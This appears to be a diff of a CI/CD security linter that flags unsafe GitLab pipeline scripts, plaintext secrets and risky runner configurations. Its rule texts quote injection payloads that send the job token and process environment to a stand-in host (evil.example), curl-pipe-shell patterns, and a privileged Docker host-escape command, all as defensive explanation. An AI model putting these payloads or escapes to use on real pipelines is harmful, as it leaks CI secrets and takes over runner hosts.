+      message: `\`${variable.name}\` holds what looks like a ${format.label} (${redact(format.match)}) in plain text.`,
+      position: positionInScalar(value, text, format.index, format.match.slice(0, 12)),
+      fix
+    };
+  }
+  const trimmed = text.trim();
+  if (!SECRET_NAME2.test(variable.name) || NOT_A_SECRET_NAME.test(variable.name)) return void 0;
+  if (trimmed.length < 6 || trimmed.includes("$") || PLACEHOLDER.test(trimmed) || /^\d+$/.test(trimmed))
+    return void 0;
+  return {
+    ruleId: SECRET,
+    severity: "medium",
+    ...common,
+    message: `\`${variable.name}\` is set to a literal value (${trimmed.length} characters, redacted) in the pipeline file; a secret there is readable by everyone with repository access.`,
+    position: positionOf(value),
+    fix
+  };
+}
+function auditJob5(job) {
+  const hits = [];
+  for (const variable of [...job.variables.values(), ...ruleVariables(job.config)]) {
+    const hit = auditVariable(job, variable);
+    if (hit) hits.push(hit);
+  }
+  for (const line of jobScripts(job.config)) {
+    const format = tokenFormat(line.text);
+    if (!format) continue;
+    hits.push({
+      ruleId: SECRET,
+      message: `A ${format.label} (${redact(format.match)}) is written in \`${line.key}\`.`,
+      position: positionInScalar(line.scalar, line.text, format.index, format.match.slice(0, 12)),
+      owner: line.scalar.owner,
+      job: job.name,
+      key: `${line.key}:${format.label}`,
+      fix: "Rotate the credential, delete it from the file, and read it from a masked, protected CI/CD variable."
+    });
+  }
+  return hits;
+}
+var plaintextSecrets = {
+  rules: rules6,
+  audit: (model) => model.jobs.flatMap(auditJob5)
+};
+
+// src/checks/hardening/gitlab-ci/remote-script.ts
+var CURL_PIPE = "gitlab-ci/curl-pipe-shell";
+var rules7 = [
+  {
+    id: CURL_PIPE,
+    check: "hardening",
+    title: "Script downloaded and executed unverified",
+    severity: "medium",
+    description: 'A `script`, `before_script`, `after_script` or `hooks:pre_get_sources_script` line pipes `curl` or `wget` output into a shell or interpreter (`curl \u2026 | sh`, `wget -qO- \u2026 | sudo bash`, `\u2026 | python3`), or runs it through `sh -c "$(curl \u2026)"`, `eval "$(curl \u2026)"` or `source <(curl \u2026)`.',
+    rationale: "The job runs whatever the server returns at that moment, with the job's CI/CD variables and token in its environment. A compromised download host, a hijacked domain or a changed script (the Codecov uploader breach in 2021 worked exactly this way) turns every pipeline into a credential leak. Nothing in the repository changes, so review never sees it.",
+    fix: 'Download to a file, verify a checksum or signature you pinned in the repository, then run it; better, install from a package manager or bake the tool into a digest-pinned image:\n\n```yaml\nscript:\n  - curl -fsSLo install.sh https://example.com/install-1.4.2.sh\n  - echo "3b0c7e\u2026  install.sh" | sha256sum -c -\n  - sh install.sh\n```',
+    references: ["https://about.codecov.io/security-update/", "https://docs.gitlab.com/ci/yaml/script/"]
+  }
+];
+function auditJob6(job) {
+  const hits = [];
+  for (const line of jobScripts(job.config)) {
+    for (const found of remoteExecutions(line.text)) {
+      hits.push({
+        ruleId: CURL_PIPE,
+        message: `\`${found.snippet}\` runs a downloaded script without verifying it.`,
+        position: positionInScalar(line.scalar, line.text, found.index, found.tool),
+        owner: line.scalar.owner,
+        job: job.name,
+        key: `${line.key}:${found.snippet.replace(/\s+/g, " ")}`,
+        fix: "Download to a file, check a pinned SHA-256 (`sha256sum -c`), then execute it."
+      });
+    }
+  }
+  return hits;
+}
+var remoteScripts = {
+  rules: rules7,
+  audit: (model) => model.jobs.flatMap(auditJob6)
+};
+
+// src/checks/hardening/gitlab-ci/script-injection.ts
+var INJECTION = "gitlab-ci/script-injection";
+var UNQUOTED = "gitlab-ci/unquoted-untrusted-variable";
+var UNTRUSTED_TEXT_VARIABLES = /* @__PURE__ */ new Set([
+  "CI_COMMIT_AUTHOR",
+  "CI_COMMIT_DESCRIPTION",
+  "CI_COMMIT_MESSAGE",
+  "CI_COMMIT_TAG_MESSAGE",
+  "CI_COMMIT_TITLE",
+  "CI_MERGE_REQUEST_TITLE",
+  "CI_MERGE_REQUEST_DESCRIPTION",
+  "CI_MERGE_REQUEST_LABELS",
+  "CI_MERGE_REQUEST_MILESTONE",
+  "CI_RELEASE_DESCRIPTION",
+  "CI_PIPELINE_NAME",
+  "GITLAB_USER_NAME",
+  "CHAT_INPUT"
+]);
+var UNTRUSTED_REF_VARIABLES = /* @__PURE__ */ new Set([
+  "CI_COMMIT_BRANCH",
+  "CI_COMMIT_REF_NAME",
+  "CI_COMMIT_TAG",
+  "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME",
+  "CI_MERGE_REQUEST_TARGET_BRANCH_NAME",
+  "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME",
+  "CI_EXTERNAL_PULL_REQUEST_TARGET_BRANCH_NAME"
+]);
+var rules8 = [
+  {
+    id: INJECTION,
+    check: "hardening",
+    title: "Untrusted text interpolated into a script",
+    severity: "high",
+    description: "A script line (`script`, `before_script`, `after_script`, `hooks:pre_get_sources_script`) contains `$[[ inputs.NAME ]]` for a string input without `options:` or `regex:`, or passes a user-controlled predefined variable (`CI_COMMIT_MESSAGE`, `CI_COMMIT_TITLE`, `CI_COMMIT_BRANCH`, `CI_COMMIT_REF_NAME`, `CI_MERGE_REQUEST_TITLE`, `CI_MERGE_REQUEST_DESCRIPTION`, `CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`, `CI_COMMIT_TAG_MESSAGE`, `GITLAB_USER_NAME`\u2026) to a command that parses its argument as code again: `eval`, `sh -c`/`bash -c`, `python -c`, `node -e`, `su -c`\u2026, outside single quotes.",
+    rationale: 'GitLab replaces `$[[ inputs.x ]]` in the text of the script before the shell reads it, so an input value like `x"; curl https://evil.example/$CI_JOB_TOKEN; "` becomes shell code. Likewise `eval "echo $CI_COMMIT_MESSAGE"` runs a commit message such as `$(curl -d @/proc/self/environ evil.example)`. Branch names, commit messages and merge request titles are written by whoever pushes or opens the merge request, so the job runs their commands with its token and variables.',
+    fix: 'Pass the text through an environment variable and quote it; never build code from it:\n\n```yaml\nspec:\n  inputs:\n    environment:\n      options: [staging, production]   # or regex: ^[a-z-]+$\n---\ndeploy:\n  variables:\n    TITLE: $CI_MERGE_REQUEST_TITLE\n  script:\n    - ./notify --title "$TITLE"           # quoted, never eval or sh -c\n    - ./deploy --env "$[[ inputs.environment ]]"\n```',
+    references: [
+      "https://docs.gitlab.com/ci/inputs/",
+      "https://docs.gitlab.com/ci/variables/predefined_variables/",
+      "https://securitylab.github.com/resources/github-actions-untrusted-input/"
+    ]
+  },
+  {
+    id: UNQUOTED,
+    check: "hardening",
+    title: "User-controlled variable used unquoted",
+    severity: "medium",
+    description: "A script line uses a user-controlled free-text predefined variable (`CI_COMMIT_MESSAGE`, `CI_COMMIT_TITLE`, `CI_COMMIT_DESCRIPTION`, `CI_COMMIT_TAG_MESSAGE`, `CI_COMMIT_AUTHOR`, `CI_MERGE_REQUEST_TITLE`, `CI_MERGE_REQUEST_DESCRIPTION`, `CI_MERGE_REQUEST_LABELS`, `CI_RELEASE_DESCRIPTION`, `GITLAB_USER_NAME`\u2026) without double quotes, outside `[[ ]]`, `case` and assignments. Branch and tag names are not reported here: git forbids spaces and glob characters in them.",
+    rationale: "The shell splits an unquoted value into words and expands glob characters in it. A commit message or merge request title chosen by an attacker can then add options to the command (`--upload-pack=\u2026`, `-o /path`), list or match files, or change which arguments a deploy tool sees. Quoting makes the value one literal argument.",
+    fix: 'Quote it, and end options before it where the command supports `--`:\n\n```yaml\nscript:\n  - git log -1 -- "$CI_COMMIT_REF_NAME"\n```',
+    references: [
+      "https://www.shellcheck.net/wiki/SC2086",
+      "https://docs.gitlab.com/ci/variables/predefined_variables/"
+    ]
+  }
+];
+var INPUT = /\$\[\[\s*inputs\.([A-Za-z0-9_-]+)\s*(?:\|[^\]]*)?\]\]/g;
+function inputIsConstrained(model, path8, name) {
+  const spec = get2(get2(get2(model.headers.get(path8), "spec"), "inputs"), name);
+  const type = stringValue2(get2(spec, "type"));
+  return type === "boolean" || type === "number" || get2(spec, "options") !== void 0 || get2(spec, "regex") !== void 0;
+}
+function auditJob7(model, job) {
+  const hits = [];
+  for (const line of jobScripts(job.config)) {
+    for (const match2 of line.text.matchAll(INPUT)) {
+      const name = match2[1] ?? "";
+      if (inputIsConstrained(model, line.scalar.src.path, name)) continue;
+      hits.push({
+        ruleId: INJECTION,
+        message: `\`${match2[0]}\` is pasted into the \`${line.key}\` text before the shell reads it: an input value with quotes or \`$(...)\` runs as code.`,
+        position: positionInScalar(line.scalar, line.text, match2.index ?? 0, match2[0]),
+        owner: line.scalar.owner,
+        job: job.name,
+        key: `input:${name}:${line.key}:${commandAt(line.text, match2.index ?? 0)}`,
+        fix: `Constrain \`inputs.${name}\` with \`options:\` or \`regex:\`, or pass it through a variable and use \`"$VAR"\`.`
+      });
+    }
+    for (const use of variableUses(line.text)) {
+      const freeText = UNTRUSTED_TEXT_VARIABLES.has(use.name);
+      if (!freeText && !UNTRUSTED_REF_VARIABLES.has(use.name) || use.quote === "single") continue;
+      const position = positionInScalar(line.scalar, line.text, use.index, use.token);
+      const common = { owner: line.scalar.owner, job: job.name, position };
+      if (isReparsed(use.before)) {
+        hits.push({
+          ruleId: INJECTION,
+          ...common,
+          message: `\`$${use.name}\` is expanded into code that is parsed again (\`eval\`, \`sh -c\`\u2026): its author can run commands in this job.`,
+          key: `reparsed:${use.name}:${line.key}:${commandAt(line.text, use.index)}`,
+          fix: `Do not build code from \`$${use.name}\`; pass it as a quoted argument (\`"$${use.name}"\`) to a script instead.`
+        });
+      } else if (freeText && use.quote === "none" && !isSplitSafe(use.before)) {
+        hits.push({
+          ruleId: UNQUOTED,
+          ...common,
+          message: `\`$${use.name}\` is used unquoted: its author controls word splitting and glob expansion of this command.`,
+          key: `unquoted:${use.name}:${line.key}:${commandAt(line.text, use.index)}`,
+          fix: `Write \`"$${use.name}"\`.`
+        });
+      }
+    }
+  }
+  return hits;
+}
+var scriptInjection = {
+  rules: rules8,
+  audit: (model) => model.jobs.flatMap((job) => auditJob7(model, job))
+};
+
+// src/checks/hardening/gitlab-ci/index.ts
+var GITLAB_CI_PATH = ".gitlab-ci.yml";
+var unresolvableConfigRule = {
+  id: UNRESOLVED_RULE,
+  check: "hardening",
+  title: "GitLab CI configuration could not be fully resolved",
+  severity: "medium",
+  description: "Part of the pipeline could not be assembled the way GitLab assembles it: a local include is missing, points outside the repository, uses a variable, or forms a cycle; there are more than 150 includes; an `extends` names an unknown job, loops, or nests deeper than 11 levels; or a `!reference` tag points at nothing, loops, or nests deeper than 10 levels. The jobs that depend on the missing part were checked without it.",
+  rationale: "GitLab rejects most of these configurations, but a scanner that silently skips what it cannot resolve would report a clean pipeline it never saw. Jobs inherited from an unresolved template may hold exactly the settings the other rules look for.",
+  fix: 'Fix the reference at the reported location. Validate the merged configuration in GitLab with **Build > Pipeline editor > Full configuration**, or through the API:\n\n```sh\ncurl --header "PRIVATE-TOKEN: $TOKEN" "$CI_API_V4_URL/projects/$CI_PROJECT_ID/ci/lint?dry_run=true"\n```',
+  references: ["https://docs.gitlab.com/ci/yaml/includes/", "https://docs.gitlab.com/ci/yaml/yaml_optimization/"]
+};
+var FAMILIES = [
+  dockerInDocker,
+  imagePinning,
+  includePinning,
+  debugLogging,
+  plaintextSecrets,
+  remoteScripts,
+  mergeRequestPipelines,
+  scriptInjection
+];
+var gitlabCiRules = [unresolvableConfigRule, ...FAMILIES.flatMap((family2) => family2.rules)];
+function problemFinding(problem2, titles) {
+  const rule35 = titles.get(problem2.ruleId);
+  return {
+    ruleId: problem2.ruleId,
+    severity: problem2.severity ?? rule35?.severity ?? "medium",
+    title: rule35?.title ?? problem2.ruleId,
+    message: problem2.message,
+    location: {
+      path: problem2.position.path,
+      startLine: problem2.position.line,
+      startColumn: problem2.position.column,
+      ...problem2.object ? { object: problem2.object } : {}
+    },
+    key: problem2.key
+  };
+}
+function origin(owner, path8) {
+  if (owner === "default") return `\`default:\` in ${path8}`;
+  if (owner === "variables") return `the global \`variables:\` in ${path8}`;
+  return `\`${owner}\` in ${path8}`;
+}
+function hitFindings(hits, rules9) {
+  const seen = /* @__PURE__ */ new Set();
+  const findings = [];
+  for (const hit of hits) {
+    const object = hit.job ?? hit.owner;
+    const id = [hit.ruleId, object, hit.position.path, hit.position.line, hit.position.column, hit.key].join("\0");
+    if (seen.has(id)) continue;
+    seen.add(id);
+    const rule35 = rules9.get(hit.ruleId);
+    const inherited = hit.job !== void 0 && hit.owner !== "" && hit.owner !== hit.job;
+    findings.push({
+      ruleId: hit.ruleId,
+      severity: hit.severity ?? rule35?.severity ?? "medium",
+      title: rule35?.title ?? hit.ruleId,
+      message: inherited ? `${hit.message} (Job \`${hit.job}\` inherits it from ${origin(hit.owner, hit.position.path)}.)` : hit.message,
+      location: {
+        path: hit.position.path,
+        startLine: hit.position.line,
+        startColumn: hit.position.column,
+        ...object ? { object } : {}
+      },
+      key: hit.key,
+      ...hit.fix ? { fix: hit.fix } : {}
+    });
+  }
+  return findings;
+}
+var MAX_CHILD_PIPELINES = 20;
+function problemKey(problem2) {
+  const { ruleId, position, key } = problem2;
+  return [ruleId, position.path, position.line, position.column, key].join("\0");
+}
+async function lintFile2(file, context, rules9) {
+  const problems = /* @__PURE__ */ new Map();
+  const hits = [];
+  const visited = /* @__PURE__ */ new Set([file.path]);
+  const queue = [{ path: file.path, text: file.text }];
+  while (queue.length > 0) {
+    const pipeline = queue.shift();
+    const model = await buildModel(pipeline.path, pipeline.text, context.tree);
+    hits.push(...FAMILIES.flatMap((family2) => family2.audit(model)));
+    for (const problem2 of model.problems) problems.set(problemKey(problem2), problem2);
+    for (const child of model.childPipelines) {
+      if (visited.has(child.path)) continue;
+      visited.add(child.path);
+      const at = positionOf(child.location);
+      const bytes = visited.size > MAX_CHILD_PIPELINES + 1 ? void 0 : await context.tree.read(child.path, MAX_FILE_BYTES);
+      if (!bytes) {
+        const message = visited.size > MAX_CHILD_PIPELINES + 1 ? `More than ${MAX_CHILD_PIPELINES} child pipelines; ${child.path} was not checked.` : `Child pipeline configuration ${child.path} does not exist or is not a readable regular file.`;
+        const missing = {
+          ruleId: UNRESOLVED_RULE,
+          message,
+          position: at,
+          key: `child:${child.path}`,
+          object: child.job
+        };
+        problems.set(problemKey(missing), missing);
+        continue;
+      }
+      queue.push({ path: child.path, text: bytes.toString("utf8") });
+    }
+  }
+  return [...[...problems.values()].map((problem2) => problemFinding(problem2, rules9)), ...hitFindings(hits, rules9)];
+}
+var gitlabCiLinter = {
+  id: "gitlab-ci",
+  // `hardening/parse-error` and `hardening/ignore-without-reason` are the check's common rules, not ours.
+  rules: gitlabCiRules,
+  matches: (path8) => path8 === GITLAB_CI_PATH,
+  async lint(files, context) {
+    const rules9 = new Map([...hardeningCommonRules, ...gitlabCiRules].map((rule35) => [rule35.id, rule35]));
+    const findings = [];
+    for (const file of files) {
+      if (!gitlabCiLinter.matches(file.path)) continue;
+      findings.push(...await lintFile2(file, context, rules9));
+    }
+    return findings;
+  }
+};
+
+// src/checks/hardening/runner/index.ts
+import { readFileSync, readdirSync, statSync } from "node:fs";
+
+// src/checks/hardening/runner/capabilities.ts
+var CAPABILITY_NAMES = [
+  "CAP_CHOWN",
+  "CAP_DAC_OVERRIDE",
+  "CAP_DAC_READ_SEARCH",
+  "CAP_FOWNER",
+  "CAP_FSETID",
+  "CAP_KILL",
+  "CAP_SETGID",
+  "CAP_SETUID",
+  "CAP_SETPCAP",
+  "CAP_LINUX_IMMUTABLE",
+  "CAP_NET_BIND_SERVICE",
+  "CAP_NET_BROADCAST",
+  "CAP_NET_ADMIN",
+  "CAP_NET_RAW",
+  "CAP_IPC_LOCK",
+  "CAP_IPC_OWNER",
+  "CAP_SYS_MODULE",
+  "CAP_SYS_RAWIO",
+  "CAP_SYS_CHROOT",
+  "CAP_SYS_PTRACE",
+  "CAP_SYS_PACCT",
+  "CAP_SYS_ADMIN",
+  "CAP_SYS_BOOT",
+  "CAP_SYS_NICE",
+  "CAP_SYS_RESOURCE",
+  "CAP_SYS_TIME",
+  "CAP_SYS_TTY_CONFIG",
+  "CAP_MKNOD",
+  "CAP_LEASE",
+  "CAP_AUDIT_WRITE",
+  "CAP_AUDIT_CONTROL",
+  "CAP_SETFCAP",
+  "CAP_MAC_OVERRIDE",
+  "CAP_MAC_ADMIN",
+  "CAP_SYSLOG",
+  "CAP_WAKE_ALARM",
+  "CAP_BLOCK_SUSPEND",
+  "CAP_AUDIT_READ",
+  "CAP_PERFMON",
+  "CAP_BPF",
+  "CAP_CHECKPOINT_RESTORE"
+];
+var MIN_LAST_CAP = 37;
+var ESCAPE_CAPABILITIES = /* @__PURE__ */ new Set([
+  "CAP_SYS_ADMIN",
+  "CAP_SYS_MODULE",
+  "CAP_SYS_RAWIO",
+  "CAP_SYS_PTRACE",
+  "CAP_DAC_READ_SEARCH",
+  "CAP_BPF",
+  "CAP_MAC_ADMIN",
+  "CAP_MAC_OVERRIDE",
+  "CAP_SYS_BOOT"
+]);
+function parseCapabilityMask(hex) {
+  if (hex === void 0 || !/^[0-9a-fA-F]{1,16}$/.test(hex.trim())) return void 0;
+  return BigInt(`0x${hex.trim()}`);
+}
+function capabilityNames(mask) {
+  const names = [];
+  for (let bit = 0; bit < 64; bit++) {
+    if (mask >> BigInt(bit) & 1n) names.push(CAPABILITY_NAMES[bit] ?? `CAP_${bit}`);
+  }
+  return names;
+}
+function hasAllCapabilities(mask, lastCap) {
+  const all = (1n << BigInt(lastCap + 1)) - 1n;
+  return (mask & all) === all;
+}
+
+// src/checks/hardening/runner/proc-status.ts
+function parseProcStatus(text) {
+  const fields = /* @__PURE__ */ new Map();
+  for (const line of text.split("\n")) {
+    const colon = line.indexOf(":");
+    if (colon > 0) fields.set(line.slice(0, colon).trim(), line.slice(colon + 1).trim());
+  }
+  const int = (value) => value !== void 0 && /^\d+$/.test(value) ? Number(value) : void 0;
+  const uidField = fields.get("Uid")?.split(/\s+/);
+  const status = {
+    groups: (fields.get("Groups") ?? "").split(/\s+/).filter((g) => /^\d+$/.test(g)).map(Number)
+  };
+  const uid = int(uidField?.[1]);
+  if (uid !== void 0) status.uid = uid;
+  const capEff = fields.get("CapEff");
+  if (capEff) status.capEff = capEff;
+  const capBnd = fields.get("CapBnd");
+  if (capBnd) status.capBnd = capBnd;
+  const capPrm = fields.get("CapPrm");
+  if (capPrm) status.capPrm = capPrm;
+  const seccomp = int(fields.get("Seccomp"));
+  if (seccomp !== void 0) status.seccomp = seccomp;
+  const noNewPrivs = int(fields.get("NoNewPrivs"));
+  if (noNewPrivs !== void 0) status.noNewPrivs = noNewPrivs;
+  return status;
+}
+function parseIdFile(text) {
+  const ids = /* @__PURE__ */ new Map();
+  for (const line of (text ?? "").split("\n")) {
+    const [name, , id] = line.split(":");
+    if (name && id && /^\d+$/.test(id) && !ids.has(Number(id))) ids.set(Number(id), name);
+  }
+  return ids;
+}
+
+// src/checks/hardening/runner/rules.ts
+var RUNNER_RULE = {
+  selfHostedFork: "runner/self-hosted-fork-pr",
+  dockerSocket: "runner/container-engine-socket",
+  privileged: "runner/privileged-container",
+  capabilities: "runner/dangerous-capabilities",
+  seccomp: "runner/seccomp-disabled",
+  root: "runner/root-equivalent-user",
+  debug: "runner/debug-logging"
+};
+var runnerRules = [
+  {
+    id: RUNNER_RULE.selfHostedFork,
+    check: "hardening",
+    title: "Self-hosted runner runs a pull request from a fork",
+    severity: "critical",
+    description: "The job runs on a self-hosted runner (GitHub: `RUNNER_ENVIRONMENT=self-hosted`; GitLab: a runner on a self-managed instance, or a project or group runner on GitLab.com) for a pull or merge request whose source is another repository (GitHub event payload: `pull_request.head.repo.full_name` differs from `base.repo.full_name`; GitLab: `CI_MERGE_REQUEST_SOURCE_PROJECT_ID` differs from `CI_MERGE_REQUEST_PROJECT_ID`).",
+    rationale: "A fork's author, who can be anyone, now runs code on your machine. Unlike hosted runners, a self-hosted runner is usually not wiped after the job: the attacker can leave a process or a modified toolchain behind that steals the secrets of the next, trusted job, read credentials stored on the host, and reach your internal network.",
+    fix: "Run fork pull requests on hosted, ephemeral runners only, and keep self-hosted runners for trusted branches. On GitHub, require approval for all outside contributors (**Settings > Actions > Fork pull request workflows**) and select runners by a label forks cannot use:\n\n```yaml\njobs:\n  build:\n    runs-on: ${{ github.event.pull_request.head.repo.fork && 'ubuntu-latest' || 'self-hosted' }}\n```\n\nOn GitLab, make self-hosted runners protected (they then only run jobs on protected branches) and run fork merge requests on GitLab-hosted runners.",
+    references: [
+      "https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security",
+      "https://docs.gitlab.com/ci/runners/configure_runners/#prevent-runners-from-revealing-sensitive-information",
+      "https://docs.gitlab.com/ci/pipelines/merge_request_pipelines/#run-pipelines-in-the-parent-project"
+    ]
+  },
+  {
+    id: RUNNER_RULE.dockerSocket,
+    check: "hardening",
+    title: "Container engine socket reachable from the job",
+    severity: "high",
+    description: "A Docker, Podman or containerd API socket (`/var/run/docker.sock`, `/run/docker.sock`, the socket in a `unix://` `DOCKER_HOST`, `/run/podman/podman.sock`, `/run/containerd/containerd.sock`) exists in the job's filesystem. The probe only checks that the socket is there; it never connects to it.",
+    rationale: "Access to the engine socket is root on the host: `docker run --privileged -v /:/host` needs nothing else. Any code the job runs (dependencies, tests, a merge request) can take over the runner host, read other jobs' workspaces and secrets, and persist between jobs.",
+    fix: "Do not mount the host's socket into job containers (remove `/var/run/docker.sock` from the runner's `volumes`). Build images with a daemonless builder (Buildah, BuildKit rootless) or on a dedicated ephemeral VM per job.",
+    references: [
+      "https://docs.docker.com/engine/security/#docker-daemon-attack-surface",
+      "https://docs.gitlab.com/ci/docker/using_docker_build/#use-the-docker-executor-with-docker-socket-binding"
+    ]
+  },
+  {
+    id: RUNNER_RULE.privileged,
+    check: "hardening",
+    title: "Job runs in a privileged container",
+    severity: "critical",
+    description: "The job runs in a container (`/.dockerenv`, `/run/.containerenv`, container cgroups, a Kubernetes service environment, or an overlay root filesystem) and its effective capability set (`CapEff` in `/proc/self/status`) contains every capability the kernel knows: the container was started with `--privileged` (GitLab runner `privileged = true`, Kubernetes `privileged: true`).",
+    rationale: "A privileged container is not isolated: it can mount the host's disks, load kernel modules, use every device and escape to the host in one command. Whatever the job runs owns the runner host and every job that shares it.",
+    fix: "Turn privileged mode off on the runner (`[runners.docker] privileged = false`, or remove `privileged: true` from the pod spec) and move jobs that need Docker to a daemonless builder or an ephemeral VM.",
+    references: [
+      "https://docs.gitlab.com/runner/security/#usage-of-docker-executor",
+      "https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities",
+      "https://man7.org/linux/man-pages/man7/capabilities.7.html"
+    ]
+  },
+  {
+    id: RUNNER_RULE.capabilities,
+    check: "hardening",
+    title: "Job container has capabilities that break isolation",
+    severity: "high",
+    description: "The job runs in a container whose effective capabilities include one that breaks container isolation on its own: `CAP_SYS_ADMIN`, `CAP_SYS_MODULE`, `CAP_SYS_RAWIO`, `CAP_SYS_PTRACE`, `CAP_DAC_READ_SEARCH`, `CAP_BPF`, `CAP_MAC_ADMIN`, `CAP_MAC_OVERRIDE` or `CAP_SYS_BOOT`, without the full privileged set.",
+    rationale: '`CAP_SYS_ADMIN` alone allows mounts, cgroup release agents and namespace tricks that have repeatedly led to container escapes; `CAP_SYS_MODULE` loads kernel code; `CAP_DAC_READ_SEARCH` reads host files by handle (the "shocker" escape); `CAP_SYS_PTRACE` attaches to other processes.',
+    fix: "Drop the capability from the runner configuration (`cap_add` in `[runners.docker]`, `securityContext.capabilities.add` in Kubernetes).",
+    references: [
+      "https://man7.org/linux/man-pages/man7/capabilities.7.html",
+      "https://docs.gitlab.com/runner/configuration/advanced-configuration/#the-runnersdocker-section"
+    ]
+  },
+  {
+    id: RUNNER_RULE.seccomp,
+    check: "hardening",
+    title: "Seccomp is off in the job container",
+    severity: "medium",
+    description: "The job runs in a container and `/proc/self/status` reports `Seccomp: 0`: no system call filter applies.",
+    rationale: "The default seccomp profile of Docker and containerd blocks system calls used in kernel exploits and container escapes (`keyctl`, `unshare`, `bpf`, `userfaultfd`, `mount`\u2026). Without it, a kernel bug reachable from any system call is reachable from the job.",
+    fix: "Remove `seccomp=unconfined` from the runner's `security_opt`, or set `seccompProfile: { type: RuntimeDefault }` on the pod.",
+    references: [
+      "https://docs.docker.com/engine/security/seccomp/",
+      "https://kubernetes.io/docs/tutorials/security/seccomp/"
+    ]
+  },
+  {
+    id: RUNNER_RULE.root,
+    check: "hardening",
+    title: "Job runs as root or with passwordless sudo",
+    severity: "medium",
+    description: "The job's effective UID is 0, or a readable sudoers file lets the job's user run every command without a password (`NOPASSWD: ALL`, `!authenticate`). Reported as low on GitHub-hosted runners, which are single-use virtual machines.",
+    rationale: "Root inside the job is one kernel or runtime bug away from root on the host, and on a persistent runner it can change the toolchain the next job uses. Passwordless sudo is root with an extra word.",
+    fix: "Run jobs as an unprivileged user (`USER` in the job image, `image:docker:user` in GitLab, `runAsNonRoot: true` in Kubernetes) and remove the `NOPASSWD` rule on persistent runners.",
+    references: ["https://docs.gitlab.com/ci/yaml/#imagedocker", "https://www.sudo.ws/docs/man/sudoers.man/"]
+  },
+  {
+    id: RUNNER_RULE.debug,
+    check: "hardening",
+    title: "Debug logging is on for this job",
+    severity: "medium",
+    description: "The job environment shows debug logging: `CI_DEBUG_TRACE` or `CI_DEBUG_SERVICES` true (GitLab; `CI_DEBUG_TRACE` is reported as high), `RUNNER_DEBUG=1`, `ACTIONS_STEP_DEBUG` or `ACTIONS_RUNNER_DEBUG` true (GitHub).",
+    rationale: "GitLab's debug trace prints every variable, masked secrets included, into the job log. GitHub's debug logs add the expanded inputs and environment of every step, which often include tokens passed through files or outputs that masking does not catch.",
+    fix: "Turn debug logging off (unset the variable or the repository secret) and delete the logs of the runs that had it.",
+    references: [
+      "https://docs.gitlab.com/ci/variables/variables_troubleshooting/#enable-debug-logging",
+      "https://docs.github.com/en/actions/monitoring-and-troubleshooting-workflows/troubleshooting-workflows/enabling-debug-logging"
+    ]
+  }
+];
+
+// src/checks/hardening/runner/sudoers.ts
+var MAX_SUDOERS_FILES = 64;
+function collectLines(reader, result) {
+  const lines2 = [];
+  const queue = ["/etc/sudoers"];
+  const seen = /* @__PURE__ */ new Set();
+  while (queue.length > 0 && seen.size < MAX_SUDOERS_FILES) {
+    const path8 = queue.shift();
+    if (seen.has(path8)) continue;
+    seen.add(path8);
+    const text = reader.readFile(path8);
+    if (text === void 0) {
+      result.unreadable.push(path8);
+      continue;
+    }
+    result.read.push(path8);
+    const raw = text.split("\n");
+    for (let i = 0; i < raw.length; i++) {
+      const start = i;
+      let logical = raw[i] ?? "";
+      while (logical.endsWith("\\") && i + 1 < raw.length) logical = logical.slice(0, -1) + " " + (raw[++i] ?? "");
+      const include = /^\s*[#@](includedir|include)\s+(\S+)/.exec(logical);
+      if (include) {
+        const target = include[2] ?? "";
+        if (include[1] === "include") queue.push(target);
+        else {
+          const entries2 = reader.listDir?.(target);
+          if (entries2 === void 0) result.unreadable.push(`${target}/`);
+          for (const entry of (entries2 ?? []).sort()) {
+            if (!entry.endsWith("~") && !entry.includes(".")) queue.push(`${target.replace(/\/$/, "")}/${entry}`);
+          }
+        }
+        continue;
+      }
+      const uncommented = logical.replace(/(^|\s)#.*$/, "").trim();
+      if (uncommented) lines2.push({ path: path8, line: start + 1, text: uncommented });
+    }
+  }
+  return lines2;
+}
+function matchesWho(who, identity, aliases, depth = 0) {
+  return who.split(",").map((item) => item.trim()).some((item) => {
+    if (item.startsWith("!")) return false;
+    if (item === "ALL" || item === identity.user || item === `#${identity.uid}`) return true;
+    if (item.startsWith("%")) return identity.groups.includes(item.slice(1).replace(/^:/, ""));
+    const alias = aliases.get(item);
+    return alias !== void 0 && depth < 8 && matchesWho(alias.join(","), identity, aliases, depth + 1);
+  });
+}
+function passwordlessAll(commands, authenticate) {
+  let nopasswd = !authenticate;
+  for (const raw of commands.split(",")) {
+    let item = raw.trim().replace(/^\([^)]*\)\s*/, "");
+    for (; ; ) {
+      const tag = /^([A-Z_]+):\s*/.exec(item);
+      if (!tag) break;
+      if (tag[1] === "NOPASSWD") nopasswd = true;
+      if (tag[1] === "PASSWD") nopasswd = !authenticate;
+      item = item.slice(tag[0].length);
+    }
+    if (item === "ALL" && nopasswd) return true;
+  }
+  return false;
+}
+function findPasswordlessSudo(reader, identity) {
+  const result = { read: [], unreadable: [] };
+  const lines2 = collectLines(reader, result);
+  const aliases = /* @__PURE__ */ new Map();
+  let authenticate = true;
+  for (const { text } of lines2) {
+    const alias = /^User_Alias\s+([A-Z][A-Z0-9_]*)\s*=\s*(.+)$/.exec(text);
+    if (alias?.[1] && alias[2])
+      aliases.set(
+        alias[1],
+        alias[2].split(",").map((s) => s.trim())
+      );
+    const defaults2 = /^Defaults(?::(\S+))?\s+(.*)$/.exec(text);
+    if (defaults2 && /(^|[\s,])!authenticate\b/.test(defaults2[2] ?? "")) {
+      if (!defaults2[1] || matchesWho(defaults2[1], identity, aliases)) authenticate = false;
+    }
+  }
+  for (const line of lines2) {
+    if (/^(Defaults|User_Alias|Runas_Alias|Host_Alias|Cmnd_Alias|Cmd_Alias)\b/.test(line.text)) continue;
+    const spec = /^(\S+)\s+[^=]+=\s*(.+)$/.exec(line.text);
+    if (!spec?.[1] || !spec[2]) continue;
+    if (!matchesWho(spec[1], identity, aliases)) continue;
+    if (passwordlessAll(spec[2], authenticate)) {
+      result.grant = line;
+      return result;
+    }
+  }
+  return result;
+}
+
+// src/checks/hardening/runner/index.ts
+var MAX_PROBE_FILE_BYTES = 5 * 1024 * 1024;
+var TITLES = new Map(runnerRules.map((rule35) => [rule35.id, rule35]));
+function report(probe, ruleId, evidence, message, key, severity) {
+  const rule35 = TITLES.get(ruleId);
